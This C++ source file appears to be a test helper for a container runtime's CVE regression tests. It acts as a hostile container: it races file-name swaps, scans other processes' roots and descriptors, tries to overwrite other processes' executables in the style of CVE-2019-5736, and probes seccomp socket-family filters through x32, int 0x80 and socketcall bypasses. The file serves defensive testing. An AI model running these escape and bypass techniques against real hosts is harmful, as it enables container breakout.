// SPDX-License-Identifier: Apache-2.0
// What a hostile image or container does, for tests/system/cve_*.bats: compiled there, static, and
// run inside containers (or on the host, for what another container could do to a shared volume).
//
//   swap A B [A B...]   exchanges the two names without end (renameat2(2), RENAME_EXCHANGE)
//   look NAME           searches root, working directory and descriptors of every process for NAME
//   overwrite           opens the executable of every other process for writing (CVE-2019-5736)
//   sockets [FAMILY...] says by which ways a socket of a denied family can be had
//   plant TEXT CMD...   a key in a session keyring of its own, then CMD
//   find TEXT           searches the session keyring and /proc/keys for that key
//   fds                 the descriptors this program was given, one a line
#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <vector>

#include <dirent.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

namespace {

std::vector<std::string> names_in(const std::string& folder) {
    std::vector<std::string> names;
    DIR* open = ::opendir(folder.c_str());
    if (open == nullptr) return names;
    while (const dirent* entry = ::readdir(open)) {
        if (entry->d_name[0] != '.') names.emplace_back(entry->d_name);
    }
    ::closedir(open);
    return names;
}

std::string link_of(const std::string& path) {
    std::array<char, 4096> buffer{};
    const ssize_t length = ::readlink(path.c_str(), buffer.data(), buffer.size());
    return length < 0 ? "" : std::string(buffer.data(), static_cast<size_t>(length));
}

std::vector<std::string> processes() {
    std::vector<std::string> pids;
    for (const std::string& name : names_in("/proc")) {
        if (name[0] >= '0' && name[0] <= '9') pids.push_back("/proc/" + name);
    }
    return pids;
}

// Once for each text: the tests count lines.
void tell(const std::string& text) {
    static std::set<std::string> told;
    if (!told.insert(text).second) return;
    std::puts(text.c_str());
    std::fflush(stdout);
}

[[noreturn]] void swap_forever(char** names) {
    while (true) {
        for (char** pair = names; pair[0] != nullptr && pair[1] != nullptr; pair += 2) {
            ::syscall(SYS_renameat2, AT_FDCWD, pair[0], AT_FDCWD, pair[1], 2U);
        }
    }
}

[[noreturn]] void look_forever(const std::string& name) {
    const std::string own = "/proc/" + std::to_string(::getpid());
    const auto try_at = [&](const std::string& path, const char* what) {
        if (::access((path + "/" + name).c_str(), F_OK) == 0) tell(std::string("SEEN by ") + what);
    };
    while (true) {
        for (const std::string& process : processes()) {
            if (process == own) continue;
            if (process != "/proc/1") tell("newborn " + process);
            try_at(process + "/root", "root");
            try_at(process + "/cwd", "cwd");
            for (const std::string& fd : names_in(process + "/fd")) {
                try_at(process + "/fd/" + fd, "descriptor");
            }
        }
    }
}

// Held open by O_PATH it can be tried again after the program has ended and is busy no more.
void try_to_overwrite(int held) {
    const std::string path = "/proc/self/fd/" + std::to_string(held);
    for (int i = 0; i < 2000; ++i) {
        const int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
        if (fd < 0 && errno == ETXTBSY) continue;
        if (fd < 0) {
            tell(std::string("refused: ") + std::strerror(errno));
            return;
        }
        if (::write(fd, "#!", 2) == 2) tell("WRITTEN");
        ::close(fd);
        return;
    }
    tell("busy to the end");
}

[[noreturn]] void overwrite_forever() {
    struct stat own {};

    ::stat("/proc/self/exe", &own);
    while (true) {
        for (const std::string& process : processes()) {
            const int held = ::open((process + "/exe").c_str(), O_PATH | O_CLOEXEC);
            if (held < 0) continue;

            struct stat st {};

            const bool other =
                ::fstat(held, &st) == 0 && (st.st_ino != own.st_ino || st.st_dev != own.st_dev);
            const std::string name = link_of("/proc/self/fd/" + std::to_string(held));
            if (other && name.find("busybox") == std::string::npos) {
                tell("seen " + name.substr(0, 40));
                try_to_overwrite(held);
            }
            ::close(held);
        }
    }
}

#if defined(__x86_64__)
// int 0x80 from a 64-bit program enters the kernel by its 32-bit table.
long old_call(long number, long first, long second) {
    long result = 0;
    asm volatile("int $0x80"
                 : "=a"(result)
                 : "a"(number), "b"(first), "c"(second), "d"(0L)
                 : "memory");
    return result;
}

// socketcall(SYS_SOCKET, {family, type, protocol}): the arguments are where no filter looks.
long by_socketcall(uint32_t family) {
    void* low = ::mmap(
        nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) return -ENOMEM;
    auto* arguments = static_cast<uint32_t*>(low);
    arguments[0] = family;
    arguments[1] = 5;  // SOCK_SEQPACKET: AF_ALG has no other
    return old_call(102, 1, static_cast<long>(reinterpret_cast<uintptr_t>(low)));
}
#endif

void try_family(uint64_t family) {
    const auto report = [family](const char* way, long result) {
        if (result >= 0)
            std::printf("OPEN %llu by %s\n", static_cast<unsigned long long>(family), way);
    };
    for (const uint64_t high :
         {uint64_t{0}, uint64_t{1} << 32U, uint64_t{0xdead} << 32U, ~uint64_t{0} << 32U}) {
        for (const long type : {1L, 2L, 3L, 5L}) {
            report(high == 0 ? "socket" : "socket with high bits",
                   ::syscall(SYS_socket, high | family, type, 0L));
            std::array<int, 2> pair{};
            report("socketpair", ::syscall(SYS_socketpair, high | family, type, 0L, pair.data()));
        }
    }
#if defined(__x86_64__)
    report("x32", ::syscall(0x40000000L | SYS_socket, family, 5L, 0L));
    report("int 0x80", old_call(359, static_cast<long>(family), 5));
    report("socketcall", by_socketcall(static_cast<uint32_t>(family)));
#endif
}

int plant(char** argv) {
    if (::syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, nullptr) < 0) return 3;
    const long key =
        ::syscall(SYS_add_key, "user", argv[0], "secret", 6UL, KEY_SPEC_SESSION_KEYRING);
    if (key < 0) return 3;
    ::execvp(argv[1], argv + 1);
    return 127;
}

int find(const char* text) {
    const long key =
        ::syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", text, 0);
    if (key >= 0) std::puts("FOUND in the session keyring");
    if (key < 0 && errno == ENOSYS) std::puts("no keyctl");
    FILE* list = std::fopen("/proc/keys", "re");
    std::array<char, 512> line{};
    while (list != nullptr && std::fgets(line.data(), line.size(), list) != nullptr) {
        if (std::strstr(line.data(), text) != nullptr) std::puts("FOUND in /proc/keys");
    }
    std::puts("searched");
    return 0;
}

int list_descriptors() {
    for (int fd = 0; fd < 4096; ++fd) {
        if (::fcntl(fd, F_GETFD) < 0) continue;
        std::printf("%d %s\n", fd, link_of("/proc/self/fd/" + std::to_string(fd)).c_str());
    }
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    const std::string what = argc > 1 ? argv[1] : "";
    if (what == "swap" && argc > 3) swap_forever(argv + 2);
    if (what == "look" && argc > 2) look_forever(argv[2]);
    if (what == "overwrite") overwrite_forever();
    if (what == "plant" && argc > 3) return plant(argv + 2);
    if (what == "find" && argc > 2) return find(argv[2]);
    if (what == "fds") return list_descriptors();
    if (what != "sockets") return 2;
    for (int i = 2; i < argc; ++i) try_family(std::strtoull(argv[i], nullptr, 10));
    std::puts("tried");
    return 0;
}
